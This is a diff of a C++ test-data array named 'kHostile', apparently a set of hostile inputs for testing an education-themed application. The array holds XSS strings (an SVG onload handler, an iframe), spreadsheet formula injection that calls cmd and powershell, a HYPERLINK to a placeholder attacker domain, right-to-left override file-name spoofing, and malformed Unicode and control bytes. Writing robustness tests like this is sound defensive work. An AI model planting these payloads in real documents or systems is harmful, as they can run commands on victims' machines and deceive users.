@@ -14,13 +14,12 @@ constexpr std::array<Text, 18> kHostile = {
     "<iframe src=\"https://login-inquiryd.example.com/%\"></iframe>",
     "</textarea><svg/onload=confirm(%)> number talk idea",
     "Lesson plan % \u202Egpj.exe\u202C attached \u2066safe\u2069",
+    // Misleading on purpose. NOLINTNEXTLINE(misc-misleading-bidirectional)
     "\u202E%\u202D reversed \u200F\u200Eand hidden\u200B\u2060\uFEFF words",
     "Z\u0351\u036B\u0343a\u0335\u0322\u034El\u0336\u0321g\u0334\u0327\u0348o\u0337\u0328 no % "
     "f\u0336r\u0336a\u0336c\u0336t\u0336i\u0336o\u0336n\u0336s",
-    "=cmd|' /C calc'!A%",
-    "+HYPERLINK(\"http://evil.example.com/%\",\"exit tickets\")",
-    "@SUM(1+1)*cmd|' /C powershell'!A% shared sheet",
-    "-2+3+cmd|' /C notepad'!A% results",
+    "=cmd|' /C calc'!A%", R"(+HYPERLINK("http://evil.example.com/%","exit tickets"))",
+    "@SUM(1+1)*cmd|' /C powershell'!A% shared sheet", "-2+3+cmd|' /C notepad'!A% results",
     "Pneumono%ultramicroscopicsilicovolcanoconiosispneumonoultramicroscopicsilicovolcanoconiosis"
     "pneumonoultramicroscopicsilicovolcanoconiosisAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
     "nul\0byte \x01\x07\x1b[31mred\x1b[0m \x7f %"sv,
